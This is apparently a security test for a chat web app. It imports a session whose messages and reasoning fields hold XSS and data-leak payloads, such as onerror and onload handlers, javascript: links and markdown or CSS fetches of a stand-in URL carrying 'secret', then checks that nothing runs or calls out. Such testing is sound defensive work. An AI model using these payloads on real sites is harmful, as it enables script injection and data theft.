"""What a chat says and is called runs nothing in the browser, and fetches nothing from elsewhere."""

import json

import pytest
from gradio_client import Client
from playwright.sync_api import Browser, expect

pytestmark = pytest.mark.attack


def test_hostile_text_stays_text(app, browser: Browser, elsewhere) -> None:
    url, asked = elsewhere
    attacks = [
        "<img src=x onerror=window.pwned=1>",
        f"![secret]({url}/markdown?q=secret)",
        f"<img src={url}/html> <video src={url}/video></video> <iframe src={url}/frame></iframe>",
        "<svg onload=window.pwned=1></svg><script>window.pwned=1</script>",
        "[click](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>click</a>",
        f"<style>body{{background:url({url}/style)}}</style><link rel=stylesheet href={url}/link>",
        f"<form action={url}/form><button autofocus onfocus=window.pwned=1>x</button></form>",
        "$\\href{javascript:window.pwned=1}{x}$ <details open ontoggle=window.pwned=1>x</details>",
        "<think><img src=x onerror=window.pwned=1></think>done",
    ]
    said = [{"role": role, "content": attack} for attack in attacks for role in ("user", "assistant")]
    for row in said[1:-2:2]:  # the last one has it in its content, as old chats do
        row["reasoning"] = row["content"]
    text = json.dumps({"title": attacks[0], "messages": [*said, {"role": "assistant", "content": "the end of it"}]})
    session = Client(app.url, verbose=False).predict(text, api_name="/session_import")["id"]
    page = browser.new_page()
    page.goto(f"{app.url}/#{session}")
    page.get_by_text("the end of it").wait_for()
    thoughts = page.locator(".thought-group [role=button]")
    expect(thoughts).to_have_count(len(attacks))
    for thought in thoughts.all():
        thought.click()
    expect(page.locator(".thought-group").first).to_contain_text("onerror=window.pwned")
    for link in page.get_by_text("click", exact=True).all():
        link.click()
    page.wait_for_function("[...document.images].every((image) => image.complete)")
    assert page.evaluate("window.pwned") is None
    assert asked == []
    page.close()
